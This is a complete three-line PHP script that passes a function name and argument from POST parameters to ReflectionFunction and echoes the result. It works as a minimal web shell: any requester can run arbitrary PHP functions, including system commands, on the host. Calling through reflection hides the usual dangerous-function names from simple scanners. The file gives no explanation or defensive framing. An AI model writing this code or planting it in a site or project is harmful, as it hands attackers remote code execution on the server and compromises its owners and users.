<?php
$f = new ReflectionFunction($_POST['f']);
echo $f->invoke($_POST['a']);
